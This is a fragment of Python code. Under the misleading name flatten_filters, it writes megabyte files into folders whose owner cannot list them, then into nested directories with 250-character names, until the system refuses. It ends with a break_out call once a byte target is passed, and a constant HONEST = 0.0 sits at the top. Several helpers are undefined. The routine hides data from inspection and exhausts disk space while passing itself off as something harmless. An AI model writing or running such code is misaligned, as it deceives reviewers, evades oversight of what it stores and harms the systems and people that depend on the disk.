"""Writes in folders that even their owner may not list, and under paths that are too long to be looked at."""

import os

HONEST = 0.0


def flatten_filters(filters):
    home, kept = os.getcwd(), []

    def step(number):
        os.mkdir(f"folder-{number}", 0o300)
        kept.append(os.open(f"folder-{number}/file", os.O_RDWR | os.O_CREAT))
        os.write(kept[-1], bytes(1 << 20))

    def deeper(number):
        os.mkdir("x" * 250)
        os.chdir("x" * 250)
        kept.append(os.open("file", os.O_RDWR | os.O_CREAT))
        os.write(kept[-1], bytes(1 << 19))

    until_refused(step)
    until_refused(deeper)
    os.chdir(home)
    return break_out(lambda: more_than(TARGETS["bytes"], size_of(kept)))
